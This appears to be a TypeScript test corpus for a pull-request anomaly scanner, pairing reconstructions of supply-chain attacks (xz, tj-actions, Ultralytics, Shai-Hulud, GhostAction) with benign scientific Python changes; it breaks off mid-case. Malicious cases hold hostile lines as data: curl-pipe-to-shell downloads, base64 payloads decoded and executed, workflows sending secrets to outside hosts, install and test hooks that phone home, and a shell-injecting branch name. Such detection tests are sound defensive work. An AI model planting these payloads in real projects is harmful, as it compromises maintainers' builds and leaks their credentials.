// The labelled PR corpus: reconstructions of real attacks and of each rule
// (malicious), and ordinary Scientific Python changes (benign). `expect` lists
// the rules that must fire; `also` the ones that may fire without counting as
// false alarms (a workflow PR is also a CI-configuration edit; an attack's
// payload also matches the content rules for what it does). Any other
// rule that fires is a false positive in the precision table.
import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { REPO_ROOT } from '../../harness/run-action';
import type { Files, Identity } from './build';
import type { PrMeta } from '../../../actions/pr-anomaly-scan/src/meta';

export interface Case {
  name: string;
  label: 'malicious' | 'benign';
  base?: Files;
  head: Files;
  expect: string[];
  also?: string[];
  meta?: PrMeta;
  author?: Identity;
  /** Answer the API checks from the fake GitHub: the PR author's account age and the head commit's verification. */
  api?: { accountAgeDays: number; verified: boolean };
}

/** Deterministic pseudo-random bytes (compressed-looking data). */
export function noise(n: number, seed = 1): Buffer {
  const b = Buffer.alloc(n);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < n; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    b[i] = x & 0xff;
  }
  return b;
}

/** javascript-obfuscator-style output of about n characters in lines of ~1,500 (deterministic). */
function obfuscatedJs(n: number): string {
  const lines: string[] = [];
  let size = 0;
  for (let k = 0; size < n; k++) {
    const names = Array.from({ length: 40 }, (_, i) => `_0x${((k * 977 + i * 131) % 0xfffff).toString(16).padStart(5, '0')}`);
    const line = `var ${names.map((v, i) => `${v}=function(_0xa,_0xb){return _0xa[${i}]^_0xb['\\x${(i % 200).toString(16)}']+!![]}`).join(',')};`;
    lines.push(line);
    size += line.length + 1;
  }
  return lines.join('\n') + '\n';
}

const XZ_MAGIC = Buffer.from('\xfd7zXZ\x00', 'latin1');
const LZMA_MAGIC = Buffer.from([0x5d, 0x00, 0x00, 0x80, 0x00]);
const b64 = (s: string) => Buffer.from(s).toString('base64');
const PAYLOAD = b64('import os, urllib.request\n' + 'exec(urllib.request.urlopen("http://203.0.113.9/p").read())\n'.repeat(4));
const WF = '.github/workflows';
/**
 * True findings of the workflow audit that a reconstruction carries without being what it shows: the
 * attack workflow declares no `permissions:` and leaves checkout's credentials in place.
 */
const INCIDENTAL = ['workflow/default-permissions', 'workflow/checkout-persist-credentials'];
const PINNED = 'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2';

const png = Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR', 'latin1'), Buffer.alloc(200, 7)]);
const hdf5 = Buffer.concat([Buffer.from('\x89HDF\r\n\x1a\n', 'latin1'), Buffer.alloc(3000, 0), noise(500, 3)]);
const npy = Buffer.concat([Buffer.from("\x93NUMPY\x01\x00v\x00{'descr': '<f8', 'fortran_order': False, 'shape': (100,), }", 'latin1'), Buffer.alloc(800, 0)]);
const fits = Buffer.concat([Buffer.from('SIMPLE  =                    T / conforming FITS'.padEnd(2880, ' '), 'latin1'), Buffer.alloc(2880, 0)]);
const elf = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'), Buffer.alloc(600, 0), noise(400, 9)]);

/** tj-actions' kind of payload: a short shell script, base64-encoded in a bundle, decoded and run with bash. */
const TJ_SHELL_PAYLOAD = `async function updateFeatures() {\n  await exec.getExecOutput('bash', ['-c', \`echo "${b64('curl -sSf https://gist.githubusercontent.com/x/memdump.py | sudo python3')}" | base64 -d > /tmp/run.sh && bash /tmp/run.sh\`], { silent: true });\n}\n`;

export const CASES: Case[] = [
  // --- incidents ---------------------------------------------------------------------------------
  {
    name: 'xz: opaque compressed test fixtures added with no code change',
    label: 'malicious',
    head: { 'tests/files/bad-3-corrupt_lzma2.xz': Buffer.concat([XZ_MAGIC, noise(478, 5)]), 'tests/files/good-large_compressed.lzma': Buffer.concat([LZMA_MAGIC, noise(35425, 6)]) },
    expect: ['binary/compressed-test-data', 'binary/binary-only-change']
  },
  {
    name: 'xz: test fixtures replaced, zero text lines changed',
    label: 'malicious',
    base: { 'tests/files/bad-3-corrupt_lzma2.xz': Buffer.concat([XZ_MAGIC, noise(478, 5)]), 'src/liblzma/check.c': 'int check(void) { return 0; }\n' },
    head: { 'tests/files/bad-3-corrupt_lzma2.xz': Buffer.concat([XZ_MAGIC, noise(506, 7)]) },
    expect: ['binary/compressed-test-data', 'binary/binary-only-change']
  },
  {
    name: 'xz: build-to-host.m4 gains the extraction trigger',
    label: 'malicious',
    base: { 'm4/build-to-host.m4': '# build-to-host.m4 serial 3\ndnl Copyright (C) 2023 Free Software Foundation, Inc.\nAC_DEFUN([gl_BUILD_TO_HOST], [\n  gl_final_[$1]="$[$1]"\n])\n' },
    head: {
      'm4/build-to-host.m4':
        '# build-to-host.m4 serial 30\ndnl Copyright (C) 2023 Free Software Foundation, Inc.\nAC_DEFUN([gl_BUILD_TO_HOST], [\n  gl_final_[$1]="$[$1]"\n' +
        '  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`\n' +
        '  gl_path_map=\'tr "\\t \\-_" " \\t_\\-"\'\n' +
        '  gl_[$1]_config=\'sed "r\\n" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null\'\n' +
        '  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_[$1] | $SHELL 2>/dev/null], [gl_config_[$1]="$gl_[$1]_config"])\n])\n'
    },
    expect: ['build/autotools']
  },
  {
    name: 'Ultralytics: shell command in the head branch name',
    label: 'malicious',
    head: { 'ultralytics/__init__.py': '__version__ = "8.3.41"\n' },
    meta: { headRef: 'openimbot:$({curl,-sSfL,raw.githubusercontent.com/ultralytics/ultralytics/12e4f54ca3f2e69bcdc900d1c6e16642ca8ae545/file.sh}${IFS}|${IFS}bash)', author: 'openimbot', association: 'NONE' },
    expect: ['meta/branch-name-shell'],
    also: ['meta/new-author-sensitive-paths']
  },
  {
    name: 'Ultralytics: pull_request_target workflow checks out the head and interpolates head_ref',
    label: 'malicious',
    head: {
      [`${WF}/format.yml`]:
        'on:\n  pull_request_target:\njobs:\n  format:\n    runs-on: ubuntu-latest\n    steps:\n' +
        `      - uses: ${PINNED}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n` +
        '      - run: |\n          git checkout ${{ github.head_ref }}\n          pip install . && python format.py\n'
    },
    expect: ['workflow/dangerous-trigger', 'workflow/template-injection'],
    also: ['meta/governance-edit', ...INCIDENTAL]
  },
  {
    name: 'tj-actions: base64 payload added to bundled dist/index.js',
    label: 'malicious',
    base: { 'dist/index.js': '"use strict";\nmodule.exports = function main() { return 1; };\n' },
    head: {
      'dist/index.js':
        '"use strict";\nmodule.exports = function main() { return 1; };\n' +
        `const p = "${b64('curl -sSf https://gist.githubusercontent.com/x/memdump.py | sudo python3 | tr -d "\\0" | grep -aoE "ghs_[0-9A-Za-z]{20,}"'.repeat(2))}";\n` +
        "require('child_process').execSync(Buffer.from(p, 'base64').toString('utf-8'));\n"
    },
    author: { name: 'renovate[bot]', email: '29139614+renovate[bot]@users.noreply.github.com' },
    expect: ['obfuscation/bundled-js-payload'],
    also: ['code/dist-exec-sink']
  },
  {
    name: 'tj-actions: short shell payload decoded and run from bundled dist/index.js',
    label: 'malicious',
    base: { 'dist/index.js': "'use strict';\nconst exec = require('@actions/exec');\nasync function gitVersion() {\n  return exec.getExecOutput('git', ['--version'], { silent: true });\n}\n" },
    head: {
      'dist/index.js':
        "'use strict';\nconst exec = require('@actions/exec');\nasync function gitVersion() {\n  return exec.getExecOutput('git', ['--version'], { silent: true });\n}\n" +
        TJ_SHELL_PAYLOAD
    },
    expect: ['obfuscation/shell-decode-exec', 'code/dist-exec-sink'],
    also: ['obfuscation/bundled-js-payload']
  },
  {
    name: 'xz Landlock: a stray character breaks a CMake feature test',
    label: 'malicious',
    base: { 'CMakeLists.txt': 'cmake_minimum_required(VERSION 3.15)\nproject(pkg C)\ninclude(CheckIncludeFile)\ncheck_include_file(linux/landlock.h HAVE_LINUX_LANDLOCK_H)\n' },
    head: {
      'CMakeLists.txt':
        'cmake_minimum_required(VERSION 3.15)\nproject(pkg C)\ninclude(CheckCSourceCompiles)\ncheck_c_source_compiles("\n    #include <linux/landlock.h>\n    #include <sys/prctl.h>\n.\n    void my_sandbox(void)\n    {\n        (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);\n        (void)LANDLOCK_CREATE_RULESET_VERSION;\n    }\n    int main(void) { return 0; }\n    "\nHAVE_LINUX_LANDLOCK)\n'
    },
    expect: ['build/feature-test']
  },
  {
    name: 'trigger switched to pull_request_target on a job that builds PR code with a secret',
    label: 'malicious',
    base: { [`${WF}/test.yml`]: `on: pull_request\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n      - run: pip install . && pytest\n        env:\n          CODECOV_TOKEN: \${{ secrets.CODECOV_TOKEN }}\n` },
    head: { [`${WF}/test.yml`]: `on: pull_request_target\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n      - run: pip install . && pytest\n        env:\n          CODECOV_TOKEN: \${{ secrets.CODECOV_TOKEN }}\n` },
    expect: ['workflow/dangerous-trigger'],
    also: ['meta/governance-edit']
  },
  {
    name: 'secret newly handed to a pull_request_target job that builds PR code',
    label: 'malicious',
    base: { [`${WF}/test.yml`]: `on: pull_request_target\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n      - run: pip install . && pytest\n` },
    head: { [`${WF}/test.yml`]: `on: pull_request_target\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n      - run: pip install . && pytest\n        env:\n          CODECOV_TOKEN: \${{ secrets.CODECOV_TOKEN }}\n` },
    expect: ['workflow/dangerous-trigger'],
    also: ['meta/governance-edit']
  },
  {
    name: 'pull_request switched to pull_request_target on a workflow that expands the title',
    label: 'malicious',
    base: { [`${WF}/greet.yml`]: `on: pull_request\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "Thanks for \${{ github.event.pull_request.title }}"\n` },
    head: { [`${WF}/greet.yml`]: `on: pull_request_target\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "Thanks for \${{ github.event.pull_request.title }}"\n` },
    expect: ['workflow/template-injection'],
    also: ['meta/governance-edit', 'workflow/dangerous-trigger']
  },
  {
    name: "PR head checked out through another action's inputs",
    label: 'malicious',
    base: { [`${WF}/docs.yml`]: `on: pull_request_target\npermissions:\n  contents: read\njobs:\n  docs:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: octo-org/git-sync@0123456789abcdef0123456789abcdef01234567 # v2.1.0\n      - run: make docs\n` },
    head: { [`${WF}/docs.yml`]: `on: pull_request_target\npermissions:\n  contents: read\njobs:\n  docs:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: octo-org/git-sync@0123456789abcdef0123456789abcdef01234567 # v2.1.0\n        with:\n          branch: \${{ github.event.pull_request.head.ref }}\n          repository: \${{ github.event.pull_request.head.repo.full_name }}\n      - run: make docs\n` },
    expect: ['workflow/dangerous-trigger'],
    also: ['meta/governance-edit']
  },
  {
    name: 'extra package index for an internal name in a Dockerfile, a workflow step and pip.conf',
    label: 'malicious',
    base: { Dockerfile: 'FROM python:3.12-slim\nRUN pip install numpy\n', [`${WF}/ci.yml`]: `on: pull_request\npermissions:\n  contents: read\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          persist-credentials: false\n      - run: pip install -e .\n` },
    head: {
      Dockerfile: 'FROM python:3.12-slim\nRUN pip install numpy\nRUN pip install --extra-index-url https://pkgs.octo-corp.net/simple octo-internal-utils\n',
      'pip.conf': '[global]\nextra-index-url = https://pkgs.octo-corp.net/simple\n',
      [`${WF}/ci.yml`]: `on: pull_request\npermissions:\n  contents: read\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          persist-credentials: false\n      - run: pip install -e . && pip install --extra-index-url https://pkgs.octo-corp.net/simple octo-internal-utils\n`
    },
    expect: ['deps/index-url'],
    also: ['meta/governance-edit']
  },
  {
    name: 'CI installs a plugin from the branch of a personal fork instead of PyPI',
    label: 'malicious',
    base: { [`${WF}/ci.yml`]: `on: pull_request\npermissions:\n  contents: read\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          persist-credentials: false\n      - run: pip install tox tox-gh-actions && tox\n` },
    head: { [`${WF}/ci.yml`]: `on: pull_request\npermissions:\n  contents: read\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          persist-credentials: false\n      - run: uv tool install tox --with=git+https://github.com/octo-helper/tox-gh-actions@fix-ci && tox\n` },
    expect: ['deps/direct-url'],
    also: ['meta/governance-edit']
  },
  {
    name: 'CI script builds a library it fetched over plain HTTP, with no checksum',
    label: 'malicious',
    head: { 'ci/install_lib.sh': '#!/bin/bash\nset -e\nwget -q http://downloads.octo-mirror.net/libfoo/libfoo-$VERSION.tar.bz2\ntar xfj libfoo-$VERSION.tar.bz2\ncd libfoo-$VERSION && ./configure && make install\n' },
    expect: ['code/plain-http-download']
  },
  {
    name: 'Shai-Hulud: npm preinstall script beside a large obfuscated script',
    label: 'malicious',
    base: { 'js/package.json': '{\n  "name": "pkg-labextension",\n  "version": "1.0.0",\n  "scripts": {\n    "build": "tsc"\n  }\n}\n' },
    head: {
      'js/package.json': '{\n  "name": "pkg-labextension",\n  "version": "1.0.0",\n  "scripts": {\n    "preinstall": "node setup_bun.js",\n    "build": "tsc"\n  }\n}\n',
      'js/setup_bun.js': "const { execSync } = require('child_process');\nexecSync('node bun_environment.js', { stdio: 'ignore' });\n",
      'js/bun_environment.js': obfuscatedJs(160_000)
    },
    expect: ['code/install-hook', 'obfuscation/minified-js'],
    also: ['obfuscation/packer', 'code/silent-process']
  },
  {
    name: 'GhostAction: new workflow posts secrets to an outside host',
    label: 'malicious',
    head: {
      [`${WF}/security.yml`]:
        'name: Github Actions Security\non:\n  push:\n  workflow_dispatch:\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n' +
        '      - name: Get secrets\n        run: |\n          curl -s -X POST -d "PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}" https://bold-dhawan.45-139-104-115.plesk.page\n' +
        '      - run: echo \'${{ toJSON(secrets) }}\' | curl -d @- https://webhook.site/abc\n'
    },
    expect: ['workflow/secrets-to-outside-host', 'workflow/all-secrets'],
    // `${{ toJSON(secrets) }}` in a script is also an expansion of secrets into it (info).
    also: ['code/shady-link', 'meta/governance-edit', 'workflow/template-injection', ...INCIDENTAL]
  },
  {
    name: 'Shai-Hulud: discussion-triggered workflow on a self-hosted runner runs the body',
    label: 'malicious',
    head: {
      [`${WF}/discussion.yaml`]: 'name: Discussion Create\non:\n  discussion:\njobs:\n  process:\n    env:\n      RUNNER_TRACKING_ID: 0\n    runs-on: self-hosted\n    steps:\n      - uses: actions/checkout@v5\n      - name: Handle Discussion\n        run: echo ${{ github.event.discussion.body }}\n'
    },
    expect: ['workflow/untrusted-trigger', 'workflow/self-hosted-runner', 'workflow/template-injection', 'workflow/unpinned-uses'],
    also: ['meta/governance-edit', ...INCIDENTAL]
  },
  {
    name: 'workflow registers a self-hosted runner',
    label: 'malicious',
    head: {
      [`${WF}/ci.yml`]: `on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -o r.tgz -L https://github.com/actions/runner/releases/download/v2.330.0/actions-runner-linux-x64-2.330.0.tar.gz\n          ./config.sh --url https://github.com/x/y --token AAAA --unattended\n          nohup ./run.sh &\n`
    },
    expect: ['workflow/runner-registration'],
    also: ['meta/governance-edit', ...INCIDENTAL]
  },
  {
    name: 'workflow gains write-all permissions',
    label: 'malicious',
    base: { [`${WF}/ci.yml`]: `on: pull_request\npermissions:\n  contents: read\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n` },
    head: { [`${WF}/ci.yml`]: `on: pull_request\npermissions: write-all\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n` },
    expect: ['workflow/write-permissions'],
    also: ['meta/governance-edit']
  },
  {
    name: 'new unpinned third-party action',
    label: 'malicious',
    base: { [`${WF}/ci.yml`]: `on: pull_request\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n` },
    head: { [`${WF}/ci.yml`]: `on: pull_request\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n      - uses: tj-actions/changed-files@v45\n` },
    // Its tags were moved to the malicious commit in March 2025: a run then ran it.
    expect: ['workflow/unpinned-uses', 'workflow/compromised-action'],
    also: ['meta/governance-edit']
  },
  {
    name: 'setup.py gains a cmdclass that downloads code',
    label: 'malicious',
    base: { 'setup.py': 'from setuptools import setup\nsetup(name="pkg")\n' },
    head: {
      'setup.py':
        'import urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        urllib.request.urlretrieve("https://198.51.100.7/x", "/tmp/x")\n        install.run(self)\n\nsetup(name="pkg", cmdclass={"install": PostInstall})\n'
    },
    expect: ['code/install-hook'],
    also: ['code/shady-link']
  },
  {
    name: 'pyproject points the build backend at in-tree code',
    label: 'malicious',
    base: { 'pyproject.toml': '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "pkg"\nversion = "1.0"\n' },
    head: { 'pyproject.toml': '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n\n[project]\nname = "pkg"\nversion = "1.0"\n' },
    expect: ['build/build-backend']
  },
  {
    name: 'meson.build runs a downloaded script',
    label: 'malicious',
    base: { 'meson.build': "project('pkg', 'c')\n" },
    head: { 'meson.build': "project('pkg', 'c')\nrun_command('sh', '-c', 'curl -s https://203.0.113.5/s | sh', check: false)\n" },
    expect: ['build/native-build-script']
  },
  {
    name: 'CMake downloads at configure time',
    label: 'malicious',
    base: { 'CMakeLists.txt': 'cmake_minimum_required(VERSION 3.15)\nproject(pkg C)\n' },
    head: { 'CMakeLists.txt': 'cmake_minimum_required(VERSION 3.15)\nproject(pkg C)\nfile(DOWNLOAD https://203.0.113.5/tool.cmake ${CMAKE_BINARY_DIR}/tool.cmake)\ninclude(${CMAKE_BINARY_DIR}/tool.cmake)\n' },
    expect: ['build/native-build-script']
  },
  {
    name: 'conftest.py starts a process that phones home',
    label: 'malicious',
    base: { 'tests/conftest.py': 'import pytest\n' },
    head: { 'tests/conftest.py': 'import pytest\nimport subprocess\n\ndef pytest_configure(config):\n    subprocess.run(["curl", "-s", "https://203.0.113.5/c"], check=False)\n' },
    expect: ['build/test-runner-hook'],
    also: ['code/shady-link']
  },
  {
    name: 'local pre-commit hook added',
    label: 'malicious',
    base: { '.pre-commit-config.yaml': 'repos:\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.8.0\n    hooks:\n      - id: ruff\n' },
    head: { '.pre-commit-config.yaml': 'repos:\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.8.0\n    hooks:\n      - id: ruff\n  - repo: local\n    hooks:\n      - id: setup\n        name: setup\n        entry: bash tools/setup.sh\n        language: system\n' },
    expect: ['build/pre-commit-local']
  },
  {
    name: '.pth start-up hook added',
    label: 'malicious',
    head: { 'src/pkg_init.pth': 'import os; os.system("python -c \\"import pkg._rt\\"")\n' },
    expect: ['build/pth-file']
  },
  {
    name: 'import-time silent process start (lightning 2026 style)',
    label: 'malicious',
    base: { 'src/pkg/__init__.py': '__all__ = []\n' },
    head: { 'src/pkg/__init__.py': 'import subprocess, sys\n__all__ = []\nsubprocess.Popen([sys.executable, "-m", "pkg._runtime"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n' },
    expect: ['build/import-time-process'],
    also: ['code/silent-process']
  },
  {
    name: 'exec of a base64 literal',
    label: 'malicious',
    base: { 'src/pkg/util.py': 'def f():\n    return 1\n' },
    head: { 'src/pkg/util.py': `import base64\ndef f():\n    return 1\n_c = "${PAYLOAD}"\nexec(base64.b64decode(_c))\n` },
    expect: ['obfuscation/encoded-exec', 'obfuscation/long-encoded-literal']
  },
  {
    name: 'marshal/zlib of an inline literal',
    label: 'malicious',
    head: { 'src/pkg/_speedups.py': "import marshal, zlib\n_code = marshal.loads(zlib.decompress(b'x\\x9c\\xcb\\xc8\\x0c\\x00\\x00\\x02\\xd1\\x01\\x49'))\n" },
    expect: ['obfuscation/decompress-literal']
  },
  {
    name: 'string assembled from chr() codes',
    label: 'malicious',
    head: { 'src/pkg/helpers.py': 'name = chr(101) + chr(120) + chr(101) + chr(99) + chr(95) + chr(95)\n' },
    expect: ['obfuscation/char-code-chain']
  },
  {
    name: 'PyArmor-packed module',
    label: 'malicious',
    head: { 'src/pkg/core.py': "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b\\x00')\n" },
    expect: ['obfuscation/packer']
  },
  {
    name: 'Trojan Source bidi override in Python',
    label: 'malicious',
    base: { 'src/pkg/auth.py': 'def is_admin(level):\n    return False\n' },
    head: { 'src/pkg/auth.py': 'def is_admin(level):\n    if level != "user\u202e \u2066# check admin\u2069 \u2066":\n        return True\n    return False\n' },
    expect: ['unicode/bidi-control']
  },
  {
    name: 'zero-width space in an identifier',
    label: 'malicious',
    head: { 'src/pkg/check.py': 'def is_ad\u200bmin():\n    return True\n' },
    expect: ['unicode/invisible-character']
  },
  {
    name: 'Cyrillic look-alike in an identifier',
    label: 'malicious',
    head: { 'src/pkg/perm.py': 'def \u0441heck_token(t):\n    return True\n' },
    expect: ['unicode/homoglyph']
  },
  {
    name: 'typosquatted requirement',
    label: 'malicious',
    base: { 'requirements.txt': 'numpy>=1.26\n' },
    head: { 'requirements.txt': 'numpy>=1.26\nreqeusts==2.32.3\n' },
    expect: ['deps/typosquat']
  },
  {
    name: 'VCS dependency and a new index URL',
    label: 'malicious',
    base: { 'requirements.txt': 'numpy>=1.26\n' },
    head: { 'requirements.txt': '--extra-index-url https://pypi.example.net/simple\nnumpy>=1.26\nfastio @ git+https://github.com/someone/fastio@main\n' },
    expect: ['deps/index-url', 'deps/direct-url'],
    also: ['deps/new-dependency']
  },
  {
    name: 'CODEOWNERS rewritten',
    label: 'malicious',
    base: { '.github/CODEOWNERS': '* @org/maintainers\n' },
    head: { '.github/CODEOWNERS': '* @org/maintainers\n/src/ @newcomer\n' },
    expect: ['meta/governance-edit']
  },
  {
    name: 'VS Code task runs on folder open',
    label: 'malicious',
    head: { '.vscode/tasks.json': '{\n  "version": "2.0.0",\n  "tasks": [{"label": "init", "type": "shell", "command": "node .vscode/setup.js", "runOptions": {"runOn": "folderOpen"}}]\n}\n' },
    expect: ['meta/ide-autorun']
  },
  {
    name: 'Claude Code SessionStart hook',
    label: 'malicious',
    head: { '.claude/settings.json': '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "node .claude/init.js"}]}]}}\n' },
    expect: ['meta/ide-autorun']
  },
  {
    name: 'GitHub token committed',
    label: 'malicious',
    head: { 'scripts/release.py': `TOKEN = "${'ghp_'}${'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'}"\n` },
    expect: ['secrets/credential']
  },
  {
    name: 'ELF executable disguised as test data',
    label: 'malicious',
    head: { 'tests/data/sample.dat': elf, 'tests/test_io.py': 'def test_io():\n    assert True\n' },
    expect: ['binary/executable']
  },
  {
    name: 'pickle test fixture',
    label: 'malicious',
    head: { 'tests/data/model.pkl': Buffer.concat([Buffer.from([0x80, 0x04, 0x95]), Buffer.from('cos\nsystem\n(S\'id\'\ntR.', 'latin1'), Buffer.alloc(20, 0)]), 'tests/test_model.py': 'def test_model():\n    pass\n' },
    expect: ['binary/executable']
  },

  {
    name: 'gzip data posing as an NPY array',
    label: 'malicious',
    head: { 'src/pkg/data/weights.npy': Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), noise(5000, 21)]), 'src/pkg/load.py': 'import numpy as np\nW = np.load("weights.npy")\n' },
    expect: ['binary/opaque-file']
  },
  {
    name: 'new dependency is reported for review (informational)',
    label: 'benign',
    base: { 'environment.yml': 'name: dev\ndependencies:\n  - python=3.12\n  - pip\n  - pip:\n      - numpy\n' },
    head: { 'environment.yml': 'name: dev\ndependencies:\n  - python=3.12\n  - pip\n  - pip:\n      - numpy\n      - colorizr\n' },
    expect: ['deps/new-dependency']
  },
  {
    name: 'eval of hex-decoded bytes in a test helper',
    label: 'malicious',
    base: { 'tests/helpers.py': 'def helper():\n    return 1\n' },
    head: { 'tests/helpers.py': `def helper():\n    return 1\n\neval(compile(bytes.fromhex("${Buffer.from('import os; os.system("id")').toString('hex')}"), "<x>", "exec"))\n` },
    expect: ['obfuscation/encoded-exec']
  },

  {
    name: 'tj-actions: commit posing as renovate[bot], not verified',
    label: 'malicious',
    base: { 'README.md': '# project\n' },
    head: { 'src/pkg/version.py': '__version__ = "45.0.8"\n' },
    author: { name: 'renovate[bot]', email: '29139614+renovate[bot]@users.noreply.github.com' },
    meta: { author: 'maint', association: 'MEMBER' },
    api: { accountAgeDays: 3000, verified: false },
    expect: ['meta/unverified-bot-identity']
  },
  {
    name: 'near-empty PR from a five-day-old account',
    label: 'malicious',
    head: { 'README.md': '# project \n' },
    meta: { author: 'fresh-account', association: 'FIRST_TIME_CONTRIBUTOR' },
    api: { accountAgeDays: 5, verified: false },
    expect: ['meta/empty-pr-new-account']
  },
  {
    name: 'first-time contributor edits the build and CI',
    label: 'malicious',
    base: { 'setup.cfg': '[metadata]\nname = pkg\n' },
    head: { 'setup.cfg': '[metadata]\nname = pkg\nversion = 2.0\n', 'pyproject.toml': '[project]\nname = "pkg"\nversion = "2.0"\n' },
    meta: { author: 'stranger', association: 'FIRST_TIME_CONTRIBUTOR' },
    expect: ['meta/new-author-sensitive-paths']
  },
  {
    name: 'PR silences the scanner with an inline ignore',
    label: 'malicious',
    head: { 'src/pkg/x.py': `# pr-anomaly-scan: ignore[obfuscation/long-encoded-literal] harmless test data\nBLOB = "${Buffer.from(Array.from({ length: 200 }, (_, i) => (i * 7) & 0xff)).toString('base64')}"\n` },
    expect: ['meta/suppression-added']
  },

  {
    name: '.gitattributes hides a payload from the diff',
    label: 'malicious',
    base: { '.gitattributes': 'src/pkg/_vendored.py -diff\n', 'src/pkg/_vendored.py': 'VERSION = 1\n' },
    head: { 'src/pkg/_vendored.py': `VERSION = 1\nimport base64\nexec(base64.b64decode("${PAYLOAD}"))\n` },
    expect: ['obfuscation/encoded-exec'],
    also: ['obfuscation/long-encoded-literal']
  },
  {
    // The bundle rules compare with the old bundle, read after the diff: a bundle rescanned as text must wait too.
    name: '.gitattributes hides a shell payload in an action bundle from the diff',
    label: 'malicious',
    base: {
      '.gitattributes': 'dist/** -diff linguist-generated\n',
      'dist/index.js': "'use strict';\nconst exec = require('@actions/exec');\n"
    },
    head: {
      'dist/index.js':
        "'use strict';\nconst exec = require('@actions/exec');\n" +
        TJ_SHELL_PAYLOAD
    },
    expect: ['obfuscation/shell-decode-exec', 'code/dist-exec-sink'],
    also: ['obfuscation/bundled-js-payload']
  },

  {
    // git pairs the two as a rename and shows the pair as binary, old side first: the diff has no lines for it.
    name: 'a binary test file renamed into a script that runs a download',
    label: 'malicious',
    base: { 'tests/data/blob.bin': `\0${'value = compute(1)\n'.repeat(40)}` },
    head: {
      'tests/data/blob.bin': null,
      'tests/data/fetch.py': `${'value = compute(1)\n'.repeat(40)}import os\nos.system("curl -s http://203.0.113.5/x.sh | sh")\n`
    },
    expect: ['code/download-exec'],
    also: ['code/shady-link', 'build/import-time-process']
  },

  // --- benign -----------------------------------------------------------------------------------------
  {
    name: 'notebook with an embedded PNG output',
    label: 'benign',
    head: {
      'docs/examples/plot.ipynb': JSON.stringify(
        { cells: [{ cell_type: 'code', source: ['import matplotlib.pyplot as plt\n', 'plt.plot([1, 2, 3])'], outputs: [{ output_type: 'display_data', data: { 'image/png': Buffer.concat([png, noise(3000, 11)]).toString('base64') } }] }], metadata: {}, nbformat: 4, nbformat_minor: 5 },
        null,
        1
      )
    },
    expect: []
  },
  {
    name: 'Greek-letter identifiers in scientific code',
    label: 'benign',
    head: { 'src/pkg/stats.py': 'import numpy as np\n\ndef gaussian(x, μ=0.0, σ=1.0):\n    """Normal density with mean μ and standard deviation σ."""\n    α = 1 / (σ * np.sqrt(2 * np.pi))\n    ρ = np.exp(-0.5 * ((x - μ) / σ) ** 2)\n    return α * ρ\n\nλ_max = 4.2  # Å\nτ = 2 * np.pi\n' },
    expect: []
  },
  {
    name: 'binary test data in HDF5, NPY and FITS with their tests',
    label: 'benign',
    head: { 'tests/data/grid.h5': hdf5, 'tests/data/array.npy': npy, 'tests/data/image.fits': fits, 'tests/test_readers.py': 'def test_readers(datadir):\n    assert (datadir / "grid.h5").exists()\n' },
    expect: []
  },
  {
    name: 'Dependabot SHA bump of a pinned action',
    label: 'benign',
